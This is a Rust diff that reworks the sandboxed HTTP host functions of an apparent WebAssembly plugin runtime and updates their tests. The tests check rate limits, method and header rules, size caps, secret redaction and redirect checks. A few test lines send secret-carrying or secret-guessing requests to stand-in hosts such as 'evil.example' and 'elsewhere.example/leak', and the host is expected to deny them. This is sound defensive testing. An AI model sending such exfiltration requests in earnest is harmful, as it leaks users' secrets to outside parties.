@@ -17,7 +17,6 @@
 
 use super::address::{CheckedResolver, StaticHosts, host_port, names_host, restricted_range};
 use super::{Event, RunContext, RunStats, StepCtx};
-use crate::bindings::http::{Auth, Host, HostBody, HttpError, Request, Response, ResponseHead};
 use crate::policy::{Context, EffectiveLimits};
 use crate::secrets::Redactor;
 use futures::future::join_all;
@@ -27,7 +26,10 @@ use std::sync::{Arc, Mutex, PoisonError};
 use std::time::{Duration, Instant};
 use tokio::sync::{OwnedSemaphorePermit, Semaphore};
 use url::Url;
-use wasmtime::component::Resource;
+use wasmtime::component::{Linker, Resource, ResourceType};
+
+mod types;
+pub use types::{Auth, BasicAuth, HttpError, Request, Response, ResponseHead};
 
 /// Redirect hops the host follows (each one checked again).
 pub const MAX_REDIRECTS: usize = 10;
@@ -931,13 +933,33 @@ fn base64_encode(input: &[u8]) -> String {
     out
 }
 
-impl Host for StepCtx {
-    async fn fetch(&mut self, req: Request) -> Result<Response, HttpError> {
+/// Registers `http` under `interface` (say `corral:integration/http@0.2.0`): the
+/// resource and its method here, the three fetches through `lift` (their requests are
+/// lifted within the call's caps).
+pub fn add_to_linker(linker: &mut Linker<StepCtx>, interface: &str) -> wasmtime::Result<()> {
+    let mut inst = linker.instance(interface)?;
+    inst.resource(
+        "body",
+        ResourceType::host::<BodyStream>(),
+        |mut store, rep| store.data_mut().drop_body(Resource::new_own(rep)),
+    )?;
+    inst.func_wrap_async(
+        "[method]body.read",
+        |mut store: wasmtime::StoreContextMut<'_, StepCtx>,
+         (body, max): (Resource<BodyStream>, u32)| {
+            Box::new(async move { Ok((store.data_mut().read_body(body, max).await,)) })
+        },
+    )?;
+    super::lift::add_fetches(&mut inst)
+}
+
+impl StepCtx {
+    pub async fn fetch(&mut self, req: Request) -> Result<Response, HttpError> {
         let call = Call::new(&self.run, &self.step);
         call.fetch(req).await.map(|(resp, _hold)| resp)
     }
 
-    async fn fetch_batch(&mut self, reqs: Vec<Request>) -> Vec<Result<Response, HttpError>> {
+    pub async fn fetch_batch(&mut self, reqs: Vec<Request>) -> Vec<Result<Response, HttpError>> {
         if reqs.len() > MAX_BATCH {
             let msg = format!(
                 "a batch holds at most {MAX_BATCH} requests, not {}",
@@ -965,7 +987,7 @@ impl Host for StepCtx {
         results
     }
 
-    async fn fetch_streaming(
+    pub async fn fetch_streaming(
         &mut self,
         req: Request,
     ) -> Result<(ResponseHead, Resource<BodyStream>), HttpError> {
@@ -977,10 +999,13 @@ impl Host for StepCtx {
             .map_err(|e| HttpError::Invalid(format!("too many open bodies: {e}")))?;
         Ok((head, handle))
     }
-}
 
-impl HostBody for StepCtx {
-    async fn read(&mut self, body: Resource<BodyStream>, max: u32) -> Result<Vec<u8>, HttpError> {
+    /// `body.read`: up to `max` bytes of a streamed body, scrubbed.
+    pub async fn read_body(
+        &mut self,
+        body: Resource<BodyStream>,
+        max: u32,
+    ) -> Result<Vec<u8>, HttpError> {
         let run = self.run.clone();
         let step = self.step.clone();
         let stream = self
@@ -992,7 +1017,8 @@ impl HostBody for StepCtx {
             .await
     }
 
-    async fn drop(&mut self, body: Resource<BodyStream>) -> wasmtime::Result<()> {
+    /// The guest dropped a body: its reservation goes with it.
+    pub fn drop_body(&mut self, body: Resource<BodyStream>) -> wasmtime::Result<()> {
         self.table_mut().delete(body)?;
         Ok(())
     }
@@ -1045,6 +1071,7 @@ mod tests {
                 .collect(),
             graph: Default::default(),
             log: LogSink::default(),
+            kv: Default::default(),
             stats: RunStats::default(),
         })
     }
@@ -1139,9 +1166,9 @@ mod tests {
         );
         let mut ctx = StepCtx::new(run, "s");
         let url = format!("{}/public", server.origin());
-        assert!(Host::fetch(&mut ctx, get(url.clone())).await.is_ok());
+        assert!(ctx.fetch(get(url.clone())).await.is_ok());
         let started = Instant::now();
-        let err = Host::fetch(&mut ctx, get(url)).await.unwrap_err();
+        let err = ctx.fetch(get(url)).await.unwrap_err();
         assert!(started.elapsed() < Duration::from_secs(1));
         assert!(
             matches!(&err, HttpError::Timeout(m) if m.contains("requestsPerSecond")),
@@ -1167,7 +1194,7 @@ mod tests {
         ] {
             let mut req = get(format!("{}/api/items", server.origin()));
             req.headers.push((name.into(), "33".into()));
-            let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+            let err = ctx.fetch(req).await.unwrap_err();
             assert!(
                 matches!(&err, HttpError::Invalid(m)
                     if m == &format!("the {name} header is set by the host, not the plugin")),
@@ -1183,7 +1210,7 @@ mod tests {
         for method in ["CONNECT", "TRACE", "PURGE", "get", "GET "] {
             let mut req = get(format!("{}/api/items", server.origin()));
             req.method = method.into();
-            let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+            let err = ctx.fetch(req).await.unwrap_err();
             assert!(
                 matches!(&err, HttpError::Invalid(m) if m.contains("is not allowed: use one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS")),
                 "{method}: {err:?}"
@@ -1193,7 +1220,7 @@ mod tests {
         for method in METHODS {
             let mut req = get(format!("{}/api/items", server.origin()));
             req.method = method.to_string();
-            let resp = Host::fetch(&mut ctx, req).await.unwrap();
+            let resp = ctx.fetch(req).await.unwrap();
             assert_eq!(resp.status, 200, "{method}");
         }
     }
@@ -1206,7 +1233,7 @@ mod tests {
                 "{}/api/redirect-echo?form={form}&to=http://elsewhere.example/leak",
                 server.origin()
             );
-            let err = Host::fetch(&mut ctx, get(url)).await.unwrap_err();
+            let err = ctx.fetch(get(url)).await.unwrap_err();
             let HttpError::Denied(text) = &err else {
                 panic!("{form}: {err:?}")
             };
@@ -1236,10 +1263,10 @@ mod tests {
                 "{}/api/redirect-echo?form={form}&to=/api/landing",
                 server.origin()
             );
-            let resp = Host::fetch(&mut ctx, get(url.clone())).await.unwrap();
+            let resp = ctx.fetch(get(url.clone())).await.unwrap();
             let landing = format!("{}/api/landing?v={REDACTED}", server.origin());
             assert_eq!((resp.status, resp.url.as_str()), (200, landing.as_str()));
-            let (head, _body) = Host::fetch_streaming(&mut ctx, get(url)).await.unwrap();
+            let (head, _body) = ctx.fetch_streaming(get(url)).await.unwrap();
             assert_eq!(head.url, landing, "{form}");
         }
     }
@@ -1250,14 +1277,14 @@ mod tests {
     async fn huge_urls_and_secret_names_are_refused_before_matching() {
         let (server, mut ctx) = sim().await;
         let long = format!("{}/api/{}", server.origin(), "a*".repeat(4 << 20));
-        let err = Host::fetch(&mut ctx, get(long)).await.unwrap_err();
+        let err = ctx.fetch(get(long)).await.unwrap_err();
         assert!(
             matches!(&err, HttpError::Invalid(m) if m.starts_with("URL of 8388") && m.ends_with("at most 16384 are sent or followed")),
             "{err:?}"
         );
         let mut req = get(format!("{}/api/items", server.origin()));
         req.auth = Auth::Bearer("t".repeat(1 << 20));
-        let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+        let err = ctx.fetch(req).await.unwrap_err();
         assert!(
             matches!(&err, HttpError::Invalid(m) if m == "no secret field has a name of 1048576 bytes"),
             "{err:?}"
@@ -1270,7 +1297,7 @@ mod tests {
         let (server, mut ctx) = sim().await;
         for form in ["raw", "json-u", "json-slash", "percent", "percent-mixed"] {
             let url = format!("{}/api/echo-encoded?form={form}", server.origin());
-            let resp = Host::fetch(&mut ctx, get(url)).await.unwrap();
+            let resp = ctx.fetch(get(url)).await.unwrap();
             assert_eq!(resp.body, br#"{"v":"[REDACTED]"}"#, "{form}");
             let echo = resp.headers.iter().find(|(k, _)| k == "x-echo").unwrap();
             assert_eq!(echo.1, REDACTED, "{form}");
@@ -1282,14 +1309,14 @@ mod tests {
         let (server, mut ctx) = sim().await;
         // A wrong guess comes back as the guest wrote it...
         let wrong = "https://evil.example/?guess=not-the-secret";
-        let err = Host::fetch(&mut ctx, get(wrong.into())).await.unwrap_err();
+        let err = ctx.fetch(get(wrong.into())).await.unwrap_err();
         assert!(
             matches!(&err, HttpError::Denied(m) if m.starts_with(&format!("http:GET {wrong} denied"))),
             "{err:?}"
         );
         let mut req = get(format!("{}/api/items", server.origin()));
         req.headers.push(("bad header".into(), "x".into()));
-        let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+        let err = ctx.fetch(req).await.unwrap_err();
         assert!(
             matches!(&err, HttpError::Invalid(m) if m.contains("bad header")),
             "{err:?}"
@@ -1298,11 +1325,11 @@ mod tests {
         // run's HTTP: never `[REDACTED]`.
         let (_, mut basic) = sim().await;
         let mut req = get(format!("{}/api/items", server.origin()));
-        req.auth = Auth::Basic(crate::bindings::http::BasicAuth {
+        req.auth = Auth::Basic(BasicAuth {
             username: SECRET.into(),
             password_secret: "token".into(),
         });
-        let err = Host::fetch(&mut basic, req).await.unwrap_err();
+        let err = basic.fetch(req).await.unwrap_err();
         assert!(
             matches!(&err, HttpError::Denied(m) if m.starts_with("HTTP is closed")),
             "{err:?}"
@@ -1312,7 +1339,7 @@ mod tests {
         let closed =
             "HTTP is closed for this run: the plugin sent a secret value it was never given";
         for req in [get(guess), get(format!("{}/api/items", server.origin()))] {
-            let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+            let err = ctx.fetch(req).await.unwrap_err();
             assert!(
                 matches!(&err, HttpError::Denied(m) if m == closed),
                 "{err:?}"
@@ -1339,7 +1366,7 @@ mod tests {
             let reqs = (0..40)
                 .map(|i| get(format!("{}/bytes?n={size}&i={i}{query}", server.origin())))
                 .collect();
-            let results = Host::fetch_batch(&mut ctx, reqs).await;
+            let results = ctx.fetch_batch(reqs).await;
             let ok = results.iter().filter(|r| r.is_ok()).count() as u64;
             let refused = results
                 .iter()
@@ -1370,15 +1397,17 @@ mod tests {
     async fn a_streamed_body_is_counted_in_flight_until_read() {
         let (server, mut ctx) = sim().await;
         let url = format!("{}/bytes?n=294912&stream=1", server.origin());
-        let (_, body) = Host::fetch_streaming(&mut ctx, get(url)).await.unwrap();
-        let first = HostBody::read(&mut ctx, Resource::new_borrow(body.rep()), 10)
+        let (_, body) = ctx.fetch_streaming(get(url)).await.unwrap();
+        let first = ctx
+            .read_body(Resource::new_borrow(body.rep()), 10)
             .await
             .unwrap();
         assert_eq!(first.len(), 10);
         assert!(ctx.run.http.in_flight.used.load(Ordering::SeqCst) > 0);
         let mut total = first.len();
         loop {
-            let piece = HostBody::read(&mut ctx, Resource::new_borrow(body.rep()), 1 << 20)
+            let piece = ctx
+                .read_body(Resource::new_borrow(body.rep()), 1 << 20)
                 .await
                 .unwrap();
             if piece.is_empty() {
